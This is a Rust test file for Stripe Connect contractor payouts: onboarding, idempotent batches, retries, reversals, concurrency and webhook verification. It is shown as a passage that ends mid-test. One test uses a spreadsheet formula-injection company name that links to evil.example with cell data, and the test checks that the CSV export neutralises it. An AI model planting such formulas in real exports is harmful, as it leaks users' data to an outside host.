//! Stripe Connect payouts with the real async-stripe client against a local fake Stripe server:
//! onboarding, batches (idempotency keys, lost answers, refusals and retries, concurrent batches),
//! reversals, and Stripe's webhooks (signature, tolerance, replays, any order).

use std::time::Duration;

use nrp_tests::leads::*;
use nrp_tests::receiver::{Receiver, types, verify};
use nrp_tests::stripe::{FakeStripe, Script, WEBHOOK_SECRET, event, signature};
use nrp_tests::*;
use serde_json::{Value, json};

const BATCH: &str = "mutation($ids:[ID!]){ runPayoutBatch(payoutIds:$ids){ id trigger considered paid failed skipped unresolved paidCents finishedAt } }";
const PAYOUT: &str = "query($id:ID!){ job(id:$id){ payout { id status statusReason transferId idempotencyKey attempts payoutCents grossCents commissionBps commissionCents reversedCents paidAt batchId } } }";
const LINK: &str = "mutation($c:ID){ stripeOnboardingLink(contractorId:$c){ url expiresAt } }";
const STRIPE_STATE: &str = "query($id:ID!){ contractor(id:$id){ stripe { accountId payoutsEnabled detailsSubmitted requirementsDue syncedAt } } }";

/// A test on SQLite and on PostgreSQL, each with its own fake Stripe server.
macro_rules! on_both_with_stripe {
    ($name:ident, $body:expr) => {
        mod $name {
            use super::*;
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn on_sqlite() {
                let stripe = FakeStripe::start().await;
                let app = TestApp::spawn_with(Backend::Sqlite, with_stripe(&stripe)).await;
                ($body)(app, stripe).await;
            }
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn on_postgres() {
                let stripe = FakeStripe::start().await;
                let app = TestApp::spawn_with(Backend::Postgres, with_stripe(&stripe)).await;
                ($body)(app, stripe).await;
            }
        }
    };
}

fn with_stripe(stripe: &FakeStripe) -> TestOptions {
    let mut o = TestOptions::default()
        .env("PAYOUT_LEASE_SECS", "1")
        .env("WEBHOOK_RETRY_BASE_MILLIS", "100")
        .env("EXPIRY_SWEEP_MILLIS", "50");
    for (k, v) in stripe.env() {
        o = o.env(k, &v);
    }
    o
}

/// Posts an event to `/webhooks/stripe`, signed at `t` with `secret`.
async fn deliver(app: &TestApp, body: &Value, t: i64, secret: &str) -> (u16, Value) {
    let body = body.to_string();
    let resp = app
        .http
        .post(format!("{}/webhooks/stripe", app.base))
        .header("stripe-signature", signature(&body, secret, t))
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .unwrap();
    let status = resp.status().as_u16();
    (status, resp.json().await.unwrap_or(Value::Null))
}

fn now() -> i64 {
    chrono::Utc::now().timestamp()
}

/// The contractor gets its Express account through an onboarding link, and Stripe then reports
/// payouts enabled; returns the account id.
async fn onboard(app: &TestApp, c: &Contractor) -> String {
    app.ok(Some(&c.token), LINK, json!({"c": null})).await;
    let state = app.ok(Some(&c.token), STRIPE_STATE, json!({"id": c.id})).await;
    let acct = state["contractor"]["stripe"]["accountId"].as_str().unwrap().to_string();
    let ev = event(
        &format!("evt_onboarded_{acct}"),
        "account.updated",
        now(),
        json!({"id": acct, "object": "account", "payouts_enabled": true, "details_submitted": true,
               "requirements": {"currently_due": []}}),
    );
    let (status, _) = deliver(app, &ev, now(), WEBHOOK_SECRET).await;
    assert_eq!(status, 200);
    acct
}

async fn payout(app: &TestApp, admin: &str, job: &str) -> Value {
    app.ok(Some(admin), PAYOUT, json!({"id": job})).await["job"]["payout"].clone()
}

struct World {
    admin: String,
    key: String,
    c: Contractor,
}

async fn world(app: &TestApp, tag: &str) -> World {
    seed_postcodes(app).await;
    let admin = app.admin_token().await;
    let (_, key) = insurer_key(app, &admin, &format!("{tag} Mutual")).await;
    let c = contractor(app, &admin, tag, json!({"basePostcode": "2150"}), true).await;
    World { admin, key, c }
}

on_both_databases!(a_company_name_that_looks_like_a_formula_stays_text_in_the_csv, |app: TestApp| async move {
    seed_postcodes(&app).await;
    let admin = app.admin_token().await;
    let (_, key) = insurer_key(&app, &admin, "Formula Mutual").await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for details\")";
    let c = contractor(&app, &admin, "formula", json!({"basePostcode": "2150", "companyName": evil}), true).await;
    completed_job(&app, &admin, &key, &c, 10_000).await;
    let csv = app.get_text(&admin, "/reports/payouts.csv").await;
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let row = rows.records().map(Result::unwrap).find(|r| r[0].len() == 36).expect("a payout row");
    assert_eq!(&row[2], format!("'{evil}"), "the cell is text to a spreadsheet: {csv}");
    assert_eq!(&row[6], "100.00", "amounts stay numbers");
});

on_both_databases!(without_a_provider_payouts_wait_and_say_why, |app: TestApp| async move {
    let w = world(&app, "noprov").await;
    let (_, job) = completed_job(&app, &w.admin, &w.key, &w.c, 123_456).await;
    let p = payout(&app, &w.admin, &job).await;
    assert_eq!(p["status"], "PENDING");
    assert!(p["statusReason"].as_str().unwrap().contains("no payment provider"), "{p}");
    let body = app.gql(Some(&w.admin), BATCH, json!({})).await;
    assert_eq!(error_code(&body), "CONFLICT", "{body}");
    let body = app.gql(Some(&w.c.token), LINK, json!({"c": null})).await;
    assert_eq!(error_code(&body), "CONFLICT", "{body}");
    let p = payout(&app, &w.admin, &job).await;
    assert_eq!(p["status"], "PENDING");
    assert!(p["paidAt"].is_null() && p["transferId"].is_null());
    // Without a signing secret every Stripe webhook is refused.
    let ev = event("evt_x", "account.updated", now(), json!({"id": "acct_x"}));
    let (status, _) = deliver(&app, &ev, now(), WEBHOOK_SECRET).await;
    assert_eq!(status, 503);
});

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn onboarding_creates_one_express_account_and_links_to_it() {
    let stripe = FakeStripe::start().await;
    let app = TestApp::spawn_with(Backend::Sqlite, with_stripe(&stripe)).await;
    let w = world(&app, "onboard").await;
    let other = contractor(&app, &w.admin, "onboard-other", json!({}), true).await;

    let first = app.ok(Some(&w.c.token), LINK, json!({"c": null})).await["stripeOnboardingLink"].clone();
    let second = app.ok(Some(&w.c.token), LINK, json!({"c": w.c.id})).await["stripeOnboardingLink"].clone();
    let by_admin = app.ok(Some(&w.admin), LINK, json!({"c": w.c.id})).await["stripeOnboardingLink"].clone();
    let state = app.ok(Some(&w.c.token), STRIPE_STATE, json!({"id": w.c.id})).await["contractor"]["stripe"].clone();
    let acct = state["accountId"].as_str().unwrap();
    for link in [&first, &second, &by_admin] {
        assert!(link["url"].as_str().unwrap().contains(acct), "{link}");
        assert!(link["expiresAt"].is_string());
    }
    assert_eq!(state["payoutsEnabled"], false);
    let accounts: Vec<_> = stripe.requests().into_iter().filter(|r| r.path == "/v1/accounts").collect();
    assert_eq!(accounts.len(), 1, "one account, created once");
    let a = &accounts[0];
    assert_eq!(a.form["type"], "express");
    assert_eq!(a.form["country"], "AU");
    assert_eq!(a.form["capabilities[transfers][requested]"], "true");
    assert_eq!(a.form["metadata[contractor_id]"], w.c.id);
    assert_eq!(a.idempotency_key.as_deref(), Some(format!("contractor-{}-account", w.c.id).as_str()));
    let links: Vec<_> = stripe.requests().into_iter().filter(|r| r.path == "/v1/account_links").collect();
    assert_eq!(links.len(), 3);
    assert_eq!(links[0].form["type"], "account_onboarding");
    assert!(links[0].form["return_url"].ends_with("/payouts?stripe=return"));

    // Another contractor's link is not yours to get; nor is one for an admin without naming one.
    let body = app.gql(Some(&other.token), LINK, json!({"c": w.c.id})).await;
    assert_eq!(error_code(&body), "FORBIDDEN");
    let body = app.gql(Some(&w.admin), LINK, json!({"c": null})).await;
    assert_eq!(error_code(&body), "BAD_USER_INPUT");
    assert_eq!(error_field(&body), "contractorId");
    // Other contractors do not see it at all.
    let seen = app.gql(Some(&other.token), STRIPE_STATE, json!({"id": w.c.id})).await;
    assert_eq!(error_code(&seen), "FORBIDDEN");
}

/// The transfer requests the fake received.
fn transfer_posts(stripe: &FakeStripe) -> Vec<nrp_tests::stripe::Recorded> {
    stripe.requests().into_iter().filter(|r| r.method == "POST" && r.path == "/v1/transfers").collect()
}

on_both_with_stripe!(
    a_batch_pays_each_payable_payout_once_with_its_idempotency_key,
    |app: TestApp, stripe: FakeStripe| async move {
        let w = world(&app, "payable").await;
        let waiting = contractor(&app, &w.admin, "not-onboarded", json!({"basePostcode": "2150"}), true).await;
        let acct = onboard(&app, &w.c).await;
        let (_, job) = completed_job(&app, &w.admin, &w.key, &w.c, 250_001).await;
        let (_, other_job) = completed_job(&app, &w.admin, &w.key, &waiting, 99_999).await;
        let before = payout(&app, &w.admin, &job).await;
        assert_eq!(before["status"], "PENDING");
        assert_eq!(before["statusReason"], "waiting for the next payout batch");

        // Contractors cannot run batches.
        let body = app.gql(Some(&w.c.token), BATCH, json!({})).await;
        assert_eq!(error_code(&body), "FORBIDDEN");
        let body = app.gql(Some(&w.admin), BATCH, json!({"ids": []})).await;
        assert_eq!(error_code(&body), "BAD_USER_INPUT");
        let body = app.gql(Some(&w.admin), BATCH, json!({"ids": ["nope"]})).await;
        assert_eq!(error_field(&body), "payoutIds.0");

        let b = app.ok(Some(&w.admin), BATCH, json!({})).await["runPayoutBatch"].clone();
        assert_eq!(
            (b["considered"].as_i64(), b["paid"].as_i64(), b["skipped"].as_i64()),
            (Some(2), Some(1), Some(1)),
            "{b}"
        );
        assert_eq!(b["trigger"], "ADMIN");
        let p = payout(&app, &w.admin, &job).await;
        assert_eq!(p["status"], "PAID", "{p}");
        assert_eq!(b["paidCents"], p["payoutCents"]);
        assert!(p["paidAt"].is_string());
        assert_eq!(p["batchId"], b["id"]);
        let pid = p["id"].as_str().unwrap();
        let posts = transfer_posts(&stripe);
        assert_eq!(posts.len(), 1);
        let t = &posts[0];
        assert_eq!(
            t.idempotency_key.as_deref(),
            Some(format!("payout-{pid}").as_str()),
            "the key derives from the payout id"
        );
        assert_eq!(p["idempotencyKey"], format!("payout-{pid}"));
        assert_eq!(t.form["amount"], cents(&p["payoutCents"]).to_string());
        assert_eq!(t.form["currency"], "aud");
        assert_eq!(t.form["destination"], acct);
        assert_eq!(t.form["metadata[payout_id]"], pid);
        assert_eq!(t.form["transfer_group"], format!("payout-{pid}"));
        assert_eq!(p["transferId"], stripe.transfers()[0]["id"]);
        // gross = commission + payout, and what moved is the payout.
        assert_eq!(cents(&p["grossCents"]), cents(&p["commissionCents"]) + cents(&p["payoutCents"]));

        let o = payout(&app, &w.admin, &other_job).await;
        assert_eq!(o["status"], "PENDING");
        assert!(o["statusReason"].as_str().unwrap().contains("Stripe onboarding"), "{o}");

        // Running again pays nobody twice.
        let b2 = app.ok(Some(&w.admin), BATCH, json!({})).await["runPayoutBatch"].clone();
        assert_eq!((b2["considered"].as_i64(), b2["paid"].as_i64()), (Some(1), Some(0)), "{b2}");
        assert_eq!(stripe.transfers().len(), 1);
        let batches = app.ok(Some(&w.admin), "{ payoutBatches { id paid } }", json!({})).await;
        assert_eq!(batches["payoutBatches"].as_array().unwrap().len(), 2);
    }
);

on_both_with_stripe!(
    a_batch_whose_answer_is_lost_pays_exactly_once_when_run_again,
    |app: TestApp, stripe: FakeStripe| async move {
        let w = world(&app, "lost").await;
        onboard(&app, &w.c).await;
        let (_, job) = completed_job(&app, &w.admin, &w.key, &w.c, 180_000).await;
        // Stripe makes the transfer, but its answer arrives after the client gave up (1.5 s): the
        // batch is interrupted after the transfer call and before the database commit.
        stripe.script(Script::LoseAnswer(Duration::from_secs(3)));
        let b = app.ok(Some(&w.admin), BATCH, json!({})).await["runPayoutBatch"].clone();
        assert_eq!((b["paid"].as_i64(), b["unresolved"].as_i64()), (Some(0), Some(1)), "{b}");
        let p = payout(&app, &w.admin, &job).await;
        assert_eq!(p["status"], "PROCESSING", "nothing is marked paid that is not known to be paid");
        assert!(p["paidAt"].is_null());
        assert!(p["statusReason"].as_str().unwrap().contains("outcome unknown"), "{p}");
        assert_eq!(stripe.transfers().len(), 1, "Stripe did make the transfer");

        let b = app.ok(Some(&w.admin), BATCH, json!({})).await["runPayoutBatch"].clone();
        assert_eq!(b["paid"], 1, "{b}");
        let p = payout(&app, &w.admin, &job).await;
        assert_eq!(p["status"], "PAID");
        assert_eq!(stripe.transfers().len(), 1, "paid exactly once");
        assert_eq!(p["transferId"], stripe.transfers()[0]["id"]);
        assert_eq!(p["attempts"], 1, "the same attempt, settled");
        let keys: Vec<_> = transfer_posts(&stripe).into_iter().map(|r| r.idempotency_key).collect();
        assert!(keys.iter().all(|k| k.as_deref() == p["idempotencyKey"].as_str()), "{keys:?}");
    }
);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_repeated_transfer_request_is_answered_by_its_key_not_paid_again() {
    // Without the "ask first" step (as after Stripe's list is unavailable), the same key alone
    // keeps a repeated request from paying twice: the fake, like Stripe, replays the answer.
    let stripe = FakeStripe::start().await;
    let provider = nrp_server::payments::StripeProvider::new(&nrp_server::config::StripeConfig {
        secret_key: nrp_tests::stripe::SECRET_KEY.to_string().into(),
        api_base: stripe.base.clone(),
        timeout: Duration::from_secs(5),
    })
    .unwrap();
    use nrp_server::payments::{NewAccount, PaymentProvider, Transfer};
    let id = uuid::Uuid::now_v7();
    let acct = provider
        .create_account(&NewAccount { contractor_id: id, email: "a@b.example", business_name: "B" }, "acct-key")
        .await
        .unwrap();
    let t = Transfer {
        payout_id: id,
        amount_cents: 1234,
        destination: &acct,
        group: "payout-x",
        idempotency_key: "payout-x",
        description: "d",
    };
    let first = provider.transfer(&t).await.unwrap();
    let again = provider.transfer(&t).await.unwrap();
    assert_eq!(first, again);
    assert_eq!(stripe.transfers().len(), 1);
    assert_eq!(provider.find_transfer("payout-x", "payout-x").await.unwrap(), Some(first));
    assert_eq!(provider.find_transfer("payout-y", "payout-y").await.unwrap(), None);
    assert_eq!(provider.find_transfer("payout-x", "payout-x-a2").await.unwrap(), None, "another attempt's key");
    // The same key with another amount is refused, not paid.
    let other = Transfer { amount_cents: 999, ..t.clone() };
    assert!(matches!(provider.transfer(&other).await, Err(nrp_server::payments::ProviderError::Refused { .. })));
    assert_eq!(stripe.transfers().len(), 1);
}

on_both_with_stripe!(
    a_refused_transfer_fails_and_a_retry_pays_with_a_new_key,
    |app: TestApp, stripe: FakeStripe| async move {
        let w = world(&app, "refused").await;
        onboard(&app, &w.c).await;
        let (_, job) = completed_job(&app, &w.admin, &w.key, &w.c, 50_000).await;
        stripe.script(Script::Refuse {
            status: 400,
            code: "balance_insufficient",
            message: "Insufficient funds in Stripe account",
        });
        let b = app.ok(Some(&w.admin), BATCH, json!({})).await["runPayoutBatch"].clone();
        assert_eq!(b["failed"], 1, "{b}");
        let p = payout(&app, &w.admin, &job).await;
        assert_eq!(p["status"], "FAILED");
        let reason = p["statusReason"].as_str().unwrap();
        assert!(reason.contains("Insufficient funds") && reason.contains("balance_insufficient"), "{reason}");
        assert!(p["paidAt"].is_null());
        assert!(stripe.transfers().is_empty());
        let pid = p["id"].as_str().unwrap().to_string();

        // A failed payout is not picked up again until an admin retries it.
        let b = app.ok(Some(&w.admin), BATCH, json!({})).await["runPayoutBatch"].clone();
        assert_eq!(b["considered"], 0);
        let retry = "mutation($id:ID!){ retryPayout(id:$id){ status statusReason } }";
        let body = app.gql(Some(&w.c.token), retry, json!({"id": pid})).await;
        assert_eq!(error_code(&body), "FORBIDDEN");
        let r = app.ok(Some(&w.admin), retry, json!({"id": pid})).await;
        assert_eq!(r["retryPayout"]["status"], "PENDING");
        let b = app.ok(Some(&w.admin), BATCH, json!({"ids": [pid]})).await["runPayoutBatch"].clone();
        assert_eq!(b["paid"], 1, "{b}");
        let p = payout(&app, &w.admin, &job).await;
        assert_eq!(p["status"], "PAID");
        assert_eq!(p["attempts"], 2);
        let keys: Vec<_> = transfer_posts(&stripe).into_iter().map(|r| r.idempotency_key.unwrap()).collect();
        assert_eq!(keys, vec![format!("payout-{pid}"), format!("payout-{pid}-a2")]);
        assert_eq!(stripe.transfers().len(), 1);
        let body = app.gql(Some(&w.admin), retry, json!({"id": pid})).await;
        assert_eq!(error_code(&body), "CONFLICT", "a PAID payout is not retried");
    }
);

on_both_with_stripe!(
    events_about_an_earlier_attempts_transfer_never_move_the_payout,
    |app: TestApp, stripe: FakeStripe| async move {
        let w = world(&app, "stale").await;
        onboard(&app, &w.c).await;
        let (_, job) = completed_job(&app, &w.admin, &w.key, &w.c, 60_000).await;
        app.ok(Some(&w.admin), BATCH, json!({})).await;
        let p = payout(&app, &w.admin, &job).await;
        assert_eq!(p["status"], "PAID");
        let pid = p["id"].as_str().unwrap().to_string();
        let first = stripe.transfer(p["transferId"].as_str().unwrap()).unwrap();
        // Stripe reports the first transfer failed: the payout fails, an admin retries it, and the
        // retry's answer is lost, so the second attempt is PROCESSING with its outcome unknown.
        let (s, _) =
            deliver(&app, &event("evt_t1_failed", "transfer.failed", now(), first.clone()), now(), WEBHOOK_SECRET)
                .await;
        assert_eq!(s, 200);
        assert_eq!(payout(&app, &w.admin, &job).await["status"], "FAILED");
        app.ok(Some(&w.admin), "mutation($id:ID!){ retryPayout(id:$id){ status } }", json!({"id": pid})).await;
        stripe.script(Script::LoseAnswer(Duration::from_secs(3)));
        app.ok(Some(&w.admin), BATCH, json!({})).await;
        let p = payout(&app, &w.admin, &job).await;
        assert_eq!(p["status"], "PROCESSING");
        assert_eq!(stripe.transfers().len(), 2, "the second attempt made a transfer");
        let second = stripe.transfers()[1].clone();

        // A late transfer.created about the first transfer does not mark the payout paid with it.
        let (_, r) = deliver(
            &app,
            &event("evt_t1_created", "transfer.created", now() - 60, first.clone()),
            now(),
            WEBHOOK_SECRET,
        )
        .await;
        assert!(r["outcome"].as_str().unwrap().contains("not the current transfer"), "{r}");
        assert_eq!(payout(&app, &w.admin, &job).await["status"], "PROCESSING");
        // The next batch looks up the second attempt's transfer (not the first one in the group).
        app.ok(Some(&w.admin), BATCH, json!({})).await;
        let p = payout(&app, &w.admin, &job).await;
        assert_eq!(p["status"], "PAID");
        assert_eq!(p["transferId"], second["id"], "settled with the current attempt's transfer");
        assert_eq!(stripe.transfers().len(), 2, "no third payment");

        // A second copy of the old transfer.failed (another event id) leaves the payout PAID, so
        // no retry and no third payment can follow from it.
        let (_, r) =
            deliver(&app, &event("evt_t1_failed_again", "transfer.failed", now(), first), now(), WEBHOOK_SECRET).await;
        assert!(r["outcome"].as_str().unwrap().contains("not the current transfer"), "{r}");
        assert_eq!(payout(&app, &w.admin, &job).await["status"], "PAID");
        // The current transfer's own events still apply.
        let (_, r) =
            deliver(&app, &event("evt_t2_failed", "transfer.failed", now(), second), now(), WEBHOOK_SECRET).await;
        assert!(r["outcome"].as_str().unwrap().contains("FAILED"), "{r}");
        assert_eq!(stripe.transfers().len(), 2);
    }
);

on_both_with_stripe!(a_paid_payout_is_reversed_once, |app: TestApp, stripe: FakeStripe| async move {
    let w = world(&app, "reverse").await;
    onboard(&app, &w.c).await;
    let (_, job) = completed_job(&app, &w.admin, &w.key, &w.c, 77_700).await;
    let pid = payout(&app, &w.admin, &job).await["id"].as_str().unwrap().to_string();
    let reverse = "mutation($id:ID!,$r:String!){ reversePayout(id:$id, reason:$r){ status statusReason reversedCents payoutCents } }";
    let body = app.gql(Some(&w.admin), reverse, json!({"id": pid, "r": "duplicate invoice"})).await;
    assert_eq!(error_code(&body), "CONFLICT", "a PENDING payout has nothing to reverse: {body}");
    app.ok(Some(&w.admin), BATCH, json!({})).await;
    let body = app.gql(Some(&w.admin), reverse, json!({"id": pid, "r": "  "})).await;
    assert_eq!(error_code(&body), "BAD_USER_INPUT");
    assert_eq!(error_field(&body), "reason");
    let body = app.gql(Some(&w.c.token), reverse, json!({"id": pid, "r": "mine"})).await;
    assert_eq!(error_code(&body), "FORBIDDEN");
    let r =
        app.ok(Some(&w.admin), reverse, json!({"id": pid, "r": "duplicate invoice"})).await["reversePayout"].clone();
    assert_eq!(r["status"], "REVERSED");
    assert_eq!(r["reversedCents"], r["payoutCents"]);
    assert!(r["statusReason"].as_str().unwrap().contains("duplicate invoice"));
    let again = app.ok(Some(&w.admin), reverse, json!({"id": pid, "r": "again"})).await["reversePayout"].clone();
    assert_eq!(again["status"], "REVERSED");
    assert_eq!(stripe.reversals().len(), 1, "reversed once");
    let rev: Vec<_> = stripe.requests().into_iter().filter(|r| r.path.ends_with("/reversals")).collect();
    assert_eq!(rev[0].idempotency_key.as_deref(), Some(format!("payout-{pid}-reversal").as_str()));
});

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_batches_on_two_instances_pay_every_payout_exactly_once() {
    let stripe = FakeStripe::start().await;
    let a = TestApp::spawn_with(Backend::Postgres, with_stripe(&stripe).env("PAYOUT_LEASE_SECS", "120")).await;
    let b = TestApp::spawn_on(a.db.clone(), with_stripe(&stripe).env("PAYOUT_LEASE_SECS", "120")).await;
    let w = world(&a, "race").await;
    onboard(&a, &w.c).await;
    let mut jobs = Vec::new();
    for i in 0..12 {
        jobs.push(completed_job(&a, &w.admin, &w.key, &w.c, 10_000 + i).await.1);
    }
    let admin_b = w.admin.clone();
    let (ra, rb, rc) = tokio::join!(
        a.ok(Some(&w.admin), BATCH, json!({})),
        b.ok(Some(&admin_b), BATCH, json!({})),
        b.ok(Some(&admin_b), BATCH, json!({})),
    );
    let paid: i64 = [ra, rb, rc].iter().map(|r| r["runPayoutBatch"]["paid"].as_i64().unwrap()).sum();
    assert_eq!(paid, 12, "each payout counted paid by exactly one batch");
    assert_eq!(stripe.transfers().len(), 12, "twelve transfers, no more");
    let mut ids = Vec::new();
    for job in &jobs {
        let p = payout(&a, &w.admin, job).await;
        assert_eq!(p["status"], "PAID");
        ids.push(p["transferId"].as_str().unwrap().to_string());
    }
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), 12);
}

on_both_with_stripe!(
    stripe_webhooks_are_verified_deduplicated_and_applied_in_any_order,
    |app: TestApp, stripe: FakeStripe| async move {
        let w = world(&app, "events").await;
        app.ok(Some(&w.c.token), LINK, json!({"c": null})).await;
        let state = || async {
            app.ok(Some(&w.admin), STRIPE_STATE, json!({"id": w.c.id})).await["contractor"]["stripe"].clone()
        };
        let acct = state().await["accountId"].as_str().unwrap().to_string();
        let t = now();
        let enabled = event(
            "evt_new",
            "account.updated",
            t,
            json!({"id": acct, "payouts_enabled": true, "details_submitted": true, "requirements": {"currently_due": []}}),
        );
        let older = event(
            "evt_old",
            "account.updated",
            t - 60,
            json!({"id": acct, "payouts_enabled": false, "details_submitted": false, "requirements": {"currently_due": ["external_account"]}}),
        );

        // Refused: a wrong secret, a stale or future timestamp, no header, a tampered body.
        assert_eq!(deliver(&app, &enabled, t, "whsec_wrong").await.0, 400);
        assert_eq!(deliver(&app, &enabled, t - 301, WEBHOOK_SECRET).await.0, 400);
        assert_eq!(deliver(&app, &enabled, t + 301, WEBHOOK_SECRET).await.0, 400);
        let unsigned =
            app.http.post(format!("{}/webhooks/stripe", app.base)).body(enabled.to_string()).send().await.unwrap();
        assert_eq!(unsigned.status().as_u16(), 400);
        let header = signature(&enabled.to_string(), WEBHOOK_SECRET, t);
        let tampered = app
            .http
            .post(format!("{}/webhooks/stripe", app.base))
            .header("stripe-signature", header)
            .body(enabled.to_string().replace("true", "false"))
            .send()
            .await
            .unwrap();
        assert_eq!(tampered.status().as_u16(), 400);
        assert_eq!(state().await["payoutsEnabled"], false, "nothing refused was applied");
        let seen = app.ok(Some(&w.admin), "{ stripeEvents { id } }", json!({})).await;
        assert_eq!(seen["stripeEvents"], json!([]));

        // The newer state arrives first; the older one afterwards changes nothing.
        let (s, r) = deliver(&app, &enabled, t, WEBHOOK_SECRET).await;
        assert_eq!((s, r["duplicate"].as_bool()), (200, Some(false)), "{r}");
        let (s, r) = deliver(&app, &older, t, WEBHOOK_SECRET).await;
        assert_eq!(s, 200);
        assert!(r["outcome"].as_str().unwrap().contains("newer"), "{r}");
        let st = state().await;
        assert_eq!(st["payoutsEnabled"], true);
        assert_eq!(st["requirementsDue"], json!([]));
        // A replayed event id is acknowledged and ignored.
        let (s, r) = deliver(&app, &enabled, now(), WEBHOOK_SECRET).await;
        assert_eq!((s, r["duplicate"].as_bool()), (200, Some(true)));
        let seen = app.ok(Some(&w.admin), "{ stripeEvents { id type outcome } }", json!({})).await;
        assert_eq!(seen["stripeEvents"].as_array().unwrap().len(), 2);

        // transfer.reversed arrives while the batch that made the transfer never heard back.
        let (_, job) = completed_job(&app, &w.admin, &w.key, &w.c, 40_000).await;
        stripe.script(Script::LoseAnswer(Duration::from_secs(3)));
        app.ok(Some(&w.admin), BATCH, json!({})).await;
        assert_eq!(payout(&app, &w.admin, &job).await["status"], "PROCESSING");
        let mut tr = stripe.transfers()[0].clone();
        tr["reversed"] = json!(true);
        tr["amount_reversed"] = tr["amount"].clone();
        let (s, r) =
            deliver(&app, &event("evt_rev", "transfer.reversed", now(), tr.clone()), now(), WEBHOOK_SECRET).await;
        assert_eq!(s, 200, "{r}");
        let p = payout(&app, &w.admin, &job).await;
        assert_eq!(p["status"], "REVERSED");
        assert_eq!(p["reversedCents"], p["payoutCents"]);
        // The next batch finds the transfer but does not turn REVERSED back into PAID, and neither
        // does the late transfer.created.
        app.ok(Some(&w.admin), BATCH, json!({})).await;
        let created = event("evt_created", "transfer.created", now() - 30, stripe.transfers()[0].clone());
        let (s, r) = deliver(&app, &created, now(), WEBHOOK_SECRET).await;
        assert_eq!(s, 200);
        assert!(r["outcome"].as_str().unwrap().contains("already REVERSED"), "{r}");
        assert_eq!(payout(&app, &w.admin, &job).await["status"], "REVERSED");
        assert_eq!(stripe.transfers().len(), 1);

        // transfer.failed after a payout was recorded PAID: FAILED, no longer dated paid.
        let (_, job2) = completed_job(&app, &w.admin, &w.key, &w.c, 30_000).await;
        app.ok(Some(&w.admin), BATCH, json!({})).await;
        let p = payout(&app, &w.admin, &job2).await;
        assert_eq!(p["status"], "PAID");
        let tr2 = stripe.transfer(p["transferId"].as_str().unwrap()).unwrap();
        let (s, _) =
            deliver(&app, &event("evt_fail", "transfer.failed", now(), tr2.clone()), now(), WEBHOOK_SECRET).await;
        assert_eq!(s, 200);
        let p = payout(&app, &w.admin, &job2).await;
        assert_eq!(p["status"], "FAILED");
        assert!(p["paidAt"].is_null());
        // ... and the transfer.created that was sent before it, arriving late, does not undo it.
        let (_, r) =
            deliver(&app, &event("evt_created2", "transfer.created", now() - 5, tr2), now(), WEBHOOK_SECRET).await;
        assert!(r["outcome"].as_str().unwrap().contains("already FAILED"), "{r}");
        // Events NRP does not act on, and events about unknown objects, are acknowledged.
        let (s, r) =
            deliver(&app, &event("evt_other", "charge.succeeded", now(), json!({"id": "ch_1"})), now(), WEBHOOK_SECRET)
                .await;
        assert_eq!(s, 200);
        assert!(r["outcome"].as_str().unwrap().starts_with("ignored"));
        let (s, _) = deliver(&app, &json!({"no": "id"}), now(), WEBHOOK_SECRET).await;
        assert_eq!(s, 400, "a signed body that is not an event is refused");
    }
);

// The chain of issue 4, end to end: the demo insurer's lead is won, worked and completed; its
// claim is settled; the batch pays the contractor through (fake) Stripe; the insurer's receiver
// got every event, signed; the admin's CSV shows commission and payout to the cent.
on_both_with_stripe!(
    a_demo_insurer_lead_runs_from_intake_to_a_paid_contractor,
    |app: TestApp, stripe: FakeStripe| async move {
        use nrp_server::services::demo;
        demo::seed(&app.ctx).await.unwrap();
        let admin = app.login(demo::DEMO_ADMIN_EMAIL, demo::DEMO_ADMIN_PASSWORD).await;
        let insurer = demo::DEMO_API_KEY;
        let receiver = Receiver::default();
        let url = receiver.start().await;
        let hook = app
            .ok(Some(insurer), "mutation($u:String){ setPartnerWebhook(url:$u){ secret } }", json!({"u": url}))
            .await;
        let secret = hook["setPartnerWebhook"]["secret"].as_str().unwrap().to_string();

        let mut input = lead_input();
        input["property"] =
            json!({"address": "12 Church St", "suburb": "Parramatta", "state": "NSW", "postcode": "2150"});
        input["claimNumber"] = json!("HM-E2E-0001");
        let (lead, _) = create_lead(&app, insurer, input).await;
        let offers = open_offers(&lead_detail(&app, &admin, &lead).await);
        assert!(!offers.is_empty(), "the demo network has contractors near Parramatta");
        let (offer, contractor_id) = offers[0].clone();
        let email = app
            .ok(Some(&admin), "query($id:ID!){ contractor(id:$id){ email } }", json!({"id": contractor_id}))
            .await["contractor"]["email"]
            .as_str()
            .unwrap()
            .to_string();
        let token = app.login(&email, demo::DEMO_CONTRACTOR_PASSWORD).await;
        let won = app.ok(Some(&token), ACCEPT, json!({"id": offer})).await;
        let job = won["acceptOffer"]["job"]["id"].as_str().unwrap().to_string();

        let mv = |who: String, to: &'static str, extra: Value| {
            let app = &app;
            let job = job.clone();
            async move {
                let mut input = json!({"jobId": job, "to": to});
                if let (Value::Object(i), Value::Object(e)) = (&mut input, extra) {
                    i.extend(e);
                }
                app.ok(Some(&who), ADVANCE, json!({"input": input})).await["advanceJob"]["status"].clone()
            }
        };
        assert_eq!(mv(token.clone(), "CONTACTED", json!({})).await, "CONTACTED");
        assert_eq!(mv(token.clone(), "INSPECTED", json!({})).await, "INSPECTED");
        assert_eq!(mv(token.clone(), "QUOTED", json!({"quoteCents": 1_234_567})).await, "QUOTED");
        assert_eq!(mv(insurer.to_string(), "APPROVED", json!({"approvedCents": 1_234_567})).await, "APPROVED");
        assert_eq!(mv(token.clone(), "IN_PROGRESS", json!({})).await, "IN_PROGRESS");
        assert_eq!(mv(token.clone(), "COMPLETED", json!({})).await, "COMPLETED");

        let claim = app
            .ok(
                Some(insurer),
                "mutation($i:CreateClaimInput!){ createClaim(input:$i){ id status } }",
                json!({"i": {"leadId": lead, "claimedCents": 1_300_000, "excessCents": 50_000}}),
            )
            .await["createClaim"]["id"]
            .as_str()
            .unwrap()
            .to_string();
        let update = "mutation($i:UpdateClaimInput!){ updateClaim(input:$i){ status } }";
        for (status, extra) in [("ASSESSING", json!({})), ("APPROVED", json!({})), ("SETTLED", json!({}))] {
            let mut i = json!({"claimId": claim, "status": status});
            if let (Value::Object(i), Value::Object(e)) = (&mut i, extra) {
